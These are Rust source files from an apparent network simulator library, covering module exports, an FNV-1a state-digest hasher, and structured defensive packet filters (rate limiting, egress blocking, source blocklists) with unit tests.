//! sim.run_until(SimTime::from_secs(1));
//! assert_eq!(sim.app_ref::<Sink>(sink).map(|s| s.0), Some(1));
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod app;
pub mod digest;
pub mod equeue;
pub mod fastmap;
pub mod filter;
pub mod fork;
pub mod ids;
pub mod intern;
pub mod link;
pub mod node;
pub mod packet;
pub mod sim;
pub mod stats;
pub mod tcp;
pub mod time;
pub mod topology;
pub mod wifi;

pub use app::{Application, NullApp};
pub use digest::StateHasher;
pub use equeue::{EventQueue, ReferenceQueue, TimeOrderedQueue};
pub use fastmap::{FastBuildHasher, FastMap, FastSet};
pub use filter::{FilterRule, FilterStack, TokenBucket};
pub use fork::{ForkClone, ForkMap, ForkableCall, ForkableFn};
pub use ids::{AppId, ChannelId, IfaceId, LinkId, NodeId};
pub use intern::{NameId, NameInterner};
pub use link::LinkConfig;
pub use packet::{Packet, Payload, TransportProto};
pub use sim::{Ctx, FilterVerdict, IngressFilter, NetError, Simulator};
pub use stats::{DropReason, Stats, TraceHook, TraceKind, TraceRecord};
pub use tcp::{ConnId, TcpError, TcpEvent};
pub use telemetry::{Category, Telemetry, TelemetryConfig};
pub use time::SimTime;
pub use wifi::WifiConfig;
