//! Deterministic state digests.
//!
//! Checkpoint verification needs a cheap, stable fingerprint of each
//! simulator layer: the checkpoint stores one digest per layer, and resume
//! replays the world and recomputes them. A mismatch names the diverging
//! layer instead of letting a silently-wrong resume masquerade as the
//! original run.
//!
//! [`StateHasher`] is FNV-1a over 64 bits — not cryptographic, but
//! platform-independent, allocation-free, and byte-stable, which is all a
//! determinism self-check needs. Every input is folded byte-by-byte in a
//! fixed order, so two equal states always produce equal digests and the
//! digest of a layer never depends on hash-map iteration order (callers
//! must feed entries in a sorted, canonical order).

/// Incremental FNV-1a (64-bit) hasher for simulator state digests.
///
/// # Examples
///
/// ```
/// use netsim::digest::StateHasher;
///
/// let mut h = StateHasher::new();
/// h.write_u64(42);
/// h.write_str("tserver");
/// let a = h.finish();
///
/// let mut h = StateHasher::new();
/// h.write_u64(42);
/// h.write_str("tserver");
/// assert_eq!(h.finish(), a);
/// ```
#[derive(Debug, Clone)]
pub struct StateHasher {
    state: u64,
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01B3;

impl StateHasher {
    /// A fresh hasher at the FNV offset basis.
    pub fn new() -> Self {
        StateHasher { state: FNV_OFFSET }
    }

    /// Folds raw bytes into the digest.
    pub fn write_bytes(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.state ^= u64::from(b);
            self.state = self.state.wrapping_mul(FNV_PRIME);
        }
    }

    /// Folds a `u64` (little-endian bytes).
    pub fn write_u64(&mut self, v: u64) {
        self.write_bytes(&v.to_le_bytes());
    }

    /// Folds a `u32`.
    pub fn write_u32(&mut self, v: u32) {
        self.write_bytes(&v.to_le_bytes());
    }

    /// Folds a `usize` (widened to `u64` so 32- and 64-bit hosts agree).
    pub fn write_usize(&mut self, v: usize) {
        self.write_u64(v as u64);
    }

    /// Folds a string, length-prefixed so `("ab","c")` ≠ `("a","bc")`.
    pub fn write_str(&mut self, s: &str) {
        self.write_u64(s.len() as u64);
        self.write_bytes(s.as_bytes());
    }

    /// Folds a boolean.
    pub fn write_bool(&mut self, v: bool) {
        self.write_bytes(&[u8::from(v)]);
    }

    /// Folds an `f64` by its exact bit pattern.
    pub fn write_f64(&mut self, v: f64) {
        self.write_u64(v.to_bits());
    }

    /// Folds an IP address, family-tagged so `10.0.0.1` ≠ `::a00:1`.
    pub fn write_ip(&mut self, addr: std::net::IpAddr) {
        match addr {
            std::net::IpAddr::V4(a) => {
                self.write_bytes(&[4]);
                self.write_bytes(&a.octets());
            }
            std::net::IpAddr::V6(a) => {
                self.write_bytes(&[6]);
                self.write_bytes(&a.octets());
            }
        }
    }

    /// The accumulated 64-bit digest.
    pub fn finish(&self) -> u64 {
        self.state
    }
}

impl Default for StateHasher {
    fn default() -> Self {
        StateHasher::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn equal_inputs_equal_digests() {
        let digest = |vals: &[u64]| {
            let mut h = StateHasher::new();
            for &v in vals {
                h.write_u64(v);
            }
            h.finish()
        };
        assert_eq!(digest(&[1, 2, 3]), digest(&[1, 2, 3]));
        assert_ne!(digest(&[1, 2, 3]), digest(&[1, 3, 2]));
    }

    #[test]
    fn strings_are_length_prefixed() {
        let digest = |parts: &[&str]| {
            let mut h = StateHasher::new();
            for p in parts {
                h.write_str(p);
            }
            h.finish()
        };
        assert_ne!(digest(&["ab", "c"]), digest(&["a", "bc"]));
    }

    #[test]
    fn empty_digest_is_the_offset_basis() {
        assert_eq!(StateHasher::new().finish(), 0xcbf2_9ce4_8422_2325);
    }
}
