//! Structured, forkable filter rules — the schedulable defense layer.
//!
//! The original [`crate::IngressFilter`] is an opaque boxed closure: great
//! for ad-hoc experiments, but it cannot be forked (deep-cloned) or folded
//! into checkpoint digests. Scenario-deployed defenses instead use
//! [`FilterRule`]s: plain data the simulator owns, applies on every packet
//! arrival, clones on fork, and digests per layer (`netsim.filters`).
//!
//! Three rule kinds cover the defenses in `ddosim.scenario/1`:
//!
//! * [`FilterRule::RateLimit`] — per-source token buckets, the structured
//!   port of `analysis::mitigation::RateLimiter` (same refill and cost
//!   semantics, byte-for-byte).
//! * [`FilterRule::EgressBlock`] — ISP-style egress filtering: a router
//!   drops traffic toward a victim address (optionally one port).
//! * [`FilterRule::Blocklist`] — drops packets whose *source* is on the
//!   simulator-global blocklist, which honeypot nodes feed at runtime.

use crate::digest::StateHasher;
use crate::packet::Packet;
use crate::sim::FilterVerdict;
use crate::time::SimTime;
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

/// Token-bucket state for one source address inside a
/// [`FilterRule::RateLimit`].
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct TokenBucket {
    /// Bytes currently available.
    pub tokens: f64,
    /// Instant of the last refill.
    pub last: SimTime,
}

/// One structured filter rule. Plain data: `Clone` gives fork support and
/// the digest below pins it into the `netsim.filters` checkpoint layer.
#[derive(Debug, Clone)]
pub enum FilterRule {
    /// Per-source token-bucket rate limiting. A packet spends
    /// `wire_bytes()` tokens from its source's bucket; buckets refill at
    /// `rate_bps / 8` bytes per second up to `burst_bytes`.
    RateLimit {
        /// Sustained rate in bits per second. Zero admits nothing beyond
        /// the initial burst.
        rate_bps: u64,
        /// Bucket capacity in bytes (also the initial fill).
        burst_bytes: u64,
        /// Live per-source buckets (keyed and digested in address order).
        buckets: BTreeMap<IpAddr, TokenBucket>,
    },
    /// Drop every packet destined to `dst` (optionally only one `port`).
    /// Deployed on router nodes this is ISP egress filtering: attack
    /// traffic dies at the provider edge instead of the victim's link.
    EgressBlock {
        /// Victim address the filter protects.
        dst: IpAddr,
        /// Restrict the block to one destination port (`None` = all).
        port: Option<u16>,
    },
    /// Drop packets whose *source* address is on the simulator-global
    /// blocklist (see [`crate::Simulator::blocklist_insert`]); honeypots
    /// feed that list as scanners touch them.
    Blocklist,
}

impl FilterRule {
    fn verdict(
        &mut self,
        packet: &Packet,
        now: SimTime,
        blocklist: &BTreeSet<IpAddr>,
    ) -> FilterVerdict {
        match self {
            FilterRule::RateLimit { rate_bps, burst_bytes, buckets } => {
                let burst = *burst_bytes as f64;
                let bucket = buckets
                    .entry(packet.src.ip())
                    .or_insert(TokenBucket { tokens: burst, last: now });
                let elapsed = now.saturating_since(bucket.last).as_secs_f64();
                let rate_bytes = *rate_bps as f64 / 8.0;
                bucket.tokens = (bucket.tokens + elapsed * rate_bytes).min(burst);
                bucket.last = now;
                let cost = f64::from(packet.wire_bytes());
                if bucket.tokens >= cost {
                    bucket.tokens -= cost;
                    FilterVerdict::Allow
                } else {
                    FilterVerdict::Drop
                }
            }
            FilterRule::EgressBlock { dst, port } => {
                let hit = packet.dst.ip() == *dst
                    && port.map_or(true, |p| packet.dst.port() == p);
                if hit {
                    FilterVerdict::Drop
                } else {
                    FilterVerdict::Allow
                }
            }
            FilterRule::Blocklist => {
                if blocklist.contains(&packet.src.ip()) {
                    FilterVerdict::Drop
                } else {
                    FilterVerdict::Allow
                }
            }
        }
    }

    fn state_digest(&self, h: &mut StateHasher) {
        match self {
            FilterRule::RateLimit { rate_bps, burst_bytes, buckets } => {
                h.write_bytes(&[1]);
                h.write_u64(*rate_bps);
                h.write_u64(*burst_bytes);
                h.write_usize(buckets.len());
                for (src, bucket) in buckets {
                    h.write_ip(*src);
                    h.write_f64(bucket.tokens);
                    h.write_u64(bucket.last.as_nanos());
                }
            }
            FilterRule::EgressBlock { dst, port } => {
                h.write_bytes(&[2]);
                h.write_ip(*dst);
                match port {
                    None => h.write_bool(false),
                    Some(p) => {
                        h.write_bool(true);
                        h.write_u64(u64::from(*p));
                    }
                }
            }
            FilterRule::Blocklist => h.write_bytes(&[3]),
        }
    }
}

/// The ordered rule stack deployed on one node. Rules are consulted in
/// push order; the first [`FilterVerdict::Drop`] wins.
#[derive(Debug, Clone, Default)]
pub struct FilterStack {
    rules: Vec<FilterRule>,
}

impl FilterStack {
    /// Appends a rule to the stack.
    pub fn push(&mut self, rule: FilterRule) {
        self.rules.push(rule);
    }

    /// Number of rules deployed.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// Whether the stack holds no rules.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// Runs the packet through every rule in push order.
    pub fn verdict(
        &mut self,
        packet: &Packet,
        now: SimTime,
        blocklist: &BTreeSet<IpAddr>,
    ) -> FilterVerdict {
        for rule in &mut self.rules {
            if rule.verdict(packet, now, blocklist) == FilterVerdict::Drop {
                return FilterVerdict::Drop;
            }
        }
        FilterVerdict::Allow
    }

    /// Folds the stack into a checkpoint digest.
    pub fn state_digest(&self, h: &mut StateHasher) {
        h.write_usize(self.rules.len());
        for rule in &self.rules {
            rule.state_digest(h);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::packet::{Payload, TransportProto};
    use std::net::SocketAddr;

    fn pkt(src: &str, dst: &str, payload_bytes: u32) -> Packet {
        Packet::new(
            src.parse::<SocketAddr>().unwrap(),
            dst.parse::<SocketAddr>().unwrap(),
            TransportProto::Udp,
            Payload::empty(),
            28,
            payload_bytes,
        )
    }

    fn no_blocklist() -> BTreeSet<IpAddr> {
        BTreeSet::new()
    }

    #[test]
    fn rate_limit_allows_burst_then_drops() {
        let mut stack = FilterStack::default();
        stack.push(FilterRule::RateLimit {
            rate_bps: 8_000, // 1000 bytes/s
            burst_bytes: 1_000,
            buckets: BTreeMap::new(),
        });
        let bl = no_blocklist();
        let t0 = SimTime::ZERO;
        // 1000-byte burst admits two 500-byte packets, then drops.
        let p = pkt("10.0.0.1:5000", "10.0.9.9:80", 472); // 472 + 28 header = 500 wire
        assert_eq!(stack.verdict(&p, t0, &bl), FilterVerdict::Allow);
        assert_eq!(stack.verdict(&p, t0, &bl), FilterVerdict::Allow);
        assert_eq!(stack.verdict(&p, t0, &bl), FilterVerdict::Drop);
        // After a second, 1000 bytes refilled: two more packets fit.
        let t1 = SimTime::from_secs(1);
        assert_eq!(stack.verdict(&p, t1, &bl), FilterVerdict::Allow);
        assert_eq!(stack.verdict(&p, t1, &bl), FilterVerdict::Allow);
        assert_eq!(stack.verdict(&p, t1, &bl), FilterVerdict::Drop);
    }

    #[test]
    fn rate_limit_buckets_are_per_source() {
        let mut stack = FilterStack::default();
        stack.push(FilterRule::RateLimit {
            rate_bps: 0,
            burst_bytes: 500,
            buckets: BTreeMap::new(),
        });
        let bl = no_blocklist();
        let a = pkt("10.0.0.1:5000", "10.0.9.9:80", 472);
        let b = pkt("10.0.0.2:5000", "10.0.9.9:80", 472);
        assert_eq!(stack.verdict(&a, SimTime::ZERO, &bl), FilterVerdict::Allow);
        assert_eq!(stack.verdict(&a, SimTime::ZERO, &bl), FilterVerdict::Drop);
        // A different source still has its full burst.
        assert_eq!(stack.verdict(&b, SimTime::ZERO, &bl), FilterVerdict::Allow);
    }

    #[test]
    fn egress_block_matches_dst_and_port() {
        let mut stack = FilterStack::default();
        stack.push(FilterRule::EgressBlock { dst: "10.0.9.9".parse().unwrap(), port: Some(80) });
        let bl = no_blocklist();
        let hit = pkt("10.0.0.1:5000", "10.0.9.9:80", 100);
        let other_port = pkt("10.0.0.1:5000", "10.0.9.9:53", 100);
        let other_dst = pkt("10.0.0.1:5000", "10.0.9.8:80", 100);
        assert_eq!(stack.verdict(&hit, SimTime::ZERO, &bl), FilterVerdict::Drop);
        assert_eq!(stack.verdict(&other_port, SimTime::ZERO, &bl), FilterVerdict::Allow);
        assert_eq!(stack.verdict(&other_dst, SimTime::ZERO, &bl), FilterVerdict::Allow);
    }

    #[test]
    fn blocklist_rule_consults_shared_set() {
        let mut stack = FilterStack::default();
        stack.push(FilterRule::Blocklist);
        let mut bl = no_blocklist();
        let p = pkt("10.0.0.1:5000", "10.0.9.9:80", 100);
        assert_eq!(stack.verdict(&p, SimTime::ZERO, &bl), FilterVerdict::Allow);
        bl.insert("10.0.0.1".parse().unwrap());
        assert_eq!(stack.verdict(&p, SimTime::ZERO, &bl), FilterVerdict::Drop);
    }

    #[test]
    fn digest_tracks_bucket_state() {
        let mut stack = FilterStack::default();
        stack.push(FilterRule::RateLimit {
            rate_bps: 8_000,
            burst_bytes: 1_000,
            buckets: BTreeMap::new(),
        });
        let before = {
            let mut h = StateHasher::new();
            stack.state_digest(&mut h);
            h.finish()
        };
        let bl = no_blocklist();
        let p = pkt("10.0.0.1:5000", "10.0.9.9:80", 100);
        stack.verdict(&p, SimTime::ZERO, &bl);
        let after = {
            let mut h = StateHasher::new();
            stack.state_digest(&mut h);
            h.finish()
        };
        assert_ne!(before, after, "spending tokens must change the digest");
    }
}
